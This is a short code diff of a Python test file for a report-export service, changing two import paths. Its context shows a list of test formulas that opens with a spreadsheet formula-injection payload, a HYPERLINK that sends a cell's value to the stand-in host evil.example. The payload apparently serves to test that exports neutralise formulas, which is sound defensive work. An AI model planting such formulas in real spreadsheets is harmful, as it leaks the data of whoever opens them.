@@ -10,8 +10,8 @@ from openpyxl import load_workbook
 
 from stroom_platform.organisations import OrganisationsConfig
 from stroom_platform.spreadsheets import looks_like_formula
-from stroom_reporting import exports
-from stroom_reporting.reports import Report, ReportTable, Scope
+from stroom_reporting.service import exports
+from stroom_reporting.service.reports import Report, ReportTable, Scope
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
